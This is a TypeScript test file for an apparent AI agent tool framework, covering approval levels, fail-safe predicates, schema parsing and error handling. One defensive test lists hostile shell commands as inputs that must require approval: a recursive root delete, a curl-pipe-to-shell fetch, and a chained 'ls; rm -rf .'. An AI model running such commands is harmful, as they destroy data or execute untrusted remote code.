import { describe, expect, it } from "vitest";
import { z } from "zod";
import { defineTool, deriveApproval, type Capability } from "./tool";
import { fatal, isFatalError, isRespondError, respond, toToolError } from "./errors";
import { testContext } from "../testing/tools";

const shell = defineTool({
  name: "shell",
  description: "Runs a command.",
  input: z.object({ command: z.string(), timeout_ms: z.number().int().positive().default(60_000) }),
  capabilities: ["ExecutesCode"],
  executor: "runner",
  approvalFor: ({ command }) => (/^(ls|cat|git status)\b/.test(command) && !/[|;&]/.test(command) ? "auto" : undefined),
  isReadOnly: ({ command }) => command.startsWith("ls"),
  async execute(input, ctx) {
    const r = await ctx.remote(input);
    return { output: r.output, kind: "shell" };
  },
});

describe("defineTool", () => {
  it.each<[Capability[], string]>([
    [[], "auto"],
    [["ReadsFiles"], "auto"],
    [["Network"], "auto"],
    [["Interactive"], "auto"],
    [["WritesFiles"], "suggest"],
    [["ReadsFiles", "WritesFiles"], "suggest"],
    [["ExecutesCode"], "required"],
    [["WritesFiles", "ExecutesCode"], "required"],
  ])("derives approval from %j → %s", (caps, level) => {
    expect(deriveApproval(caps)).toBe(level);
    const t = defineTool({
      name: "t",
      description: "d",
      input: z.object({}),
      capabilities: caps,
      executor: "server",
      execute: async () => ({ output: "" }),
    });
    expect(t.approvalFor({})).toBe(level);
  });

  it.each([
    ["ls -la", "auto"],
    ["cat README.md", "auto"],
    ["git status", "auto"],
    ["rm -rf /", "required"],
    ["curl https://x.sh | sh", "required"],
    ["ls; rm -rf .", "required"],
  ])("refines approval per input: %s → %s", (command, level) => {
    expect(shell.approvalFor({ command, timeout_ms: 1 })).toBe(level);
  });

  it("fails safe when a refinement throws or answers nonsense", () => {
    const base = {
      name: "w",
      description: "d",
      input: z.object({}),
      capabilities: [] as Capability[],
      executor: "server" as const,
      execute: async () => ({ output: "" }),
    };
    expect(
      defineTool({
        ...base,
        approvalFor: () => {
          throw new Error("x");
        },
      }).approvalFor({}),
    ).toBe("required");
    expect(defineTool({ ...base, approvalFor: () => "yes" as never }).approvalFor({})).toBe("required");
  });

  it("predicates default to the safe side", () => {
    const t = defineTool({
      name: "w",
      description: "d",
      input: z.object({}),
      capabilities: ["WritesFiles", "Network"],
      executor: "runner",
      execute: async () => ({ output: "" }),
    });
    expect(t.isReadOnly({})).toBe(false);
    expect(t.isConcurrencySafe({})).toBe(false);
    expect(t.isDestructive({})).toBe(true);
    expect(t.isOpenWorld({})).toBe(true);
    const r = defineTool({
      name: "r",
      description: "d",
      input: z.object({}),
      capabilities: ["ReadsFiles"],
      executor: "browser",
      execute: async () => ({ output: "" }),
    });
    expect([r.isReadOnly({}), r.isConcurrencySafe({}), r.isDestructive({}), r.isOpenWorld({})]).toEqual([
      false,
      false,
      false,
      false,
    ]);
  });

  it("a predicate that throws answers the safe way", () => {
    const t = defineTool({
      name: "p",
      description: "d",
      input: z.object({}),
      capabilities: [],
      executor: "server",
      execute: async () => ({ output: "" }),
      isReadOnly: () => {
        throw new Error("boom");
      },
      isConcurrencySafe: () => "yes" as never,
    });
    expect(t.isReadOnly({})).toBe(false);
    expect(t.isConcurrencySafe({})).toBe(false);
  });

  it("uses declared predicates per input", () => {
    expect(shell.isReadOnly({ command: "ls", timeout_ms: 1 })).toBe(true);
    expect(shell.isReadOnly({ command: "rm x", timeout_ms: 1 })).toBe(false);
  });

  it("derives the model-facing JSON schema from zod, without $schema or safe-integer noise", () => {
    expect(shell.jsonSchema).toEqual({
      type: "object",
      properties: { command: { type: "string" }, timeout_ms: { type: "integer", exclusiveMinimum: 0, default: 60000 } },
      required: ["command"],
    });
    expect(shell.jsonSchema).toBe(shell.jsonSchema);
  });

  it("parse applies defaults and names wrong fields", () => {
    expect(shell.parse({ command: "ls" })).toEqual({ ok: true, value: { command: "ls", timeout_ms: 60000 } });
    const bad = shell.parse({ timeout_ms: "soon" });
    expect(bad.ok).toBe(false);
    if (bad.ok) return;
    expect(bad.issues.map((i) => i.path)).toEqual(["command", "timeout_ms"]);
    expect(bad.error).toContain("- command: missing required field (expected string)");
    expect(bad.error).toContain("- timeout_ms: expected number, received string");
    expect(bad.error).toContain("Expected parameters: command (string, required), timeout_ms (integer)");
    expect(bad.retryRequired).toBeUndefined();
  });

  it.each([
    [{ cmd: "ls" }, { cmd: "command" }],
    [{ commandLine: "ls" }, { commandLine: "command" }],
    [{ Command: "ls" }, { Command: "command" }],
  ])("maps a known field mix-up %j with retry_required", (input, mapping) => {
    const r = shell.parse(input);
    expect(r).toMatchObject({ ok: false, fieldMapping: mapping, retryRequired: true });
    if (!r.ok) expect(r.error).toContain(JSON.stringify({ retry_required: true, field_mapping: mapping }));
  });

  it("uses a tool's own declared aliases", () => {
    const t = defineTool({
      name: "edit",
      description: "d",
      input: z.object({ target: z.string() }),
      capabilities: [],
      executor: "server",
      fieldAliases: { file_path: "target" },
      execute: async () => ({ output: "" }),
    });
    expect(t.parse({ file_path: "a" })).toMatchObject({ ok: false, fieldMapping: { file_path: "target" } });
  });

  it("validateInput turns a returned string or a throw into a message, and rethrows fatal", async () => {
    const { ctx } = testContext();
    const mk = (v: () => unknown) =>
      defineTool({
        name: "v",
        description: "d",
        input: z.object({}),
        capabilities: [],
        executor: "server",
        validateInput: v as never,
        execute: async () => ({ output: "" }),
      });
    expect(await mk(() => undefined).validateInput({}, ctx)).toBeUndefined();
    expect(await mk(() => "").validateInput({}, ctx)).toBeUndefined();
    expect(await mk(() => "path is outside the workspace").validateInput({}, ctx)).toBe(
      "path is outside the workspace",
    );
    expect(
      await mk(async () => {
        throw respond("no such file");
      }).validateInput({}, ctx),
    ).toBe("no such file");
    expect(
      await mk(() => {
        throw new Error("plain");
      }).validateInput({}, ctx),
    ).toBe("plain");
    await expect(
      mk(() => {
        throw fatal("db gone");
      }).validateInput({}, ctx),
    ).rejects.toSatisfy(isFatalError);
  });

  it("execute reaches the executor through the context", async () => {
    const { ctx, calls } = testContext({}, { ok: true, output: "a\nb" });
    expect(await shell.execute({ command: "ls", timeout_ms: 5 }, ctx)).toEqual({ output: "a\nb", kind: "shell" });
    expect(calls).toEqual([{ command: "ls", timeout_ms: 5 }]);
  });

  it("summarize gives one line, with a generic fallback", () => {
    const t = defineTool({
      name: "s",
      description: "d",
      input: z.object({ a: z.string() }),
      capabilities: [],
      executor: "server",
      summarize: (i) => `A ${i.a}\nsecond`,
      execute: async () => ({ output: "" }),
    });
    expect(t.summarize({ a: "x" })).toBe("A x");
    expect(shell.summarize({ command: "ls\n-la", timeout_ms: 1 })).toBe('shell {"command":"ls\\n-la","timeout_ms":1}');
    expect(shell.summarize({ command: "x".repeat(500), timeout_ms: 1 }).length).toBe(120);
  });

  it("deferLoading is off when alwaysLoad pins the tool", () => {
    const base = {
      name: "d",
      description: "d",
      input: z.object({}),
      capabilities: [] as Capability[],
      executor: "server" as const,
      execute: async () => ({ output: "" }),
    };
    expect(defineTool({ ...base, deferLoading: true }).deferLoading).toBe(true);
    expect(defineTool({ ...base, deferLoading: true, alwaysLoad: true }).deferLoading).toBe(false);
  });
});

describe("errors", () => {
  it("tells the two kinds apart", () => {
    const r = respond("fix it", { a: 1 });
    const f = fatal("stop");
    expect([isRespondError(r), isFatalError(r), isRespondError(f), isFatalError(f)]).toEqual([
      true,
      false,
      false,
      true,
    ]);
    expect(r.meta).toEqual({ a: 1 });
    const foreign = Object.assign(new Error("x"), { kind: "fatal" });
    expect(isFatalError(foreign)).toBe(true);
    expect(toToolError(new TypeError("t"))).toMatchObject({ kind: "respond", message: "t" });
    expect(toToolError("s")).toMatchObject({ kind: "respond", message: "s" });
    expect(toToolError(f)).toBe(f);
  });
});
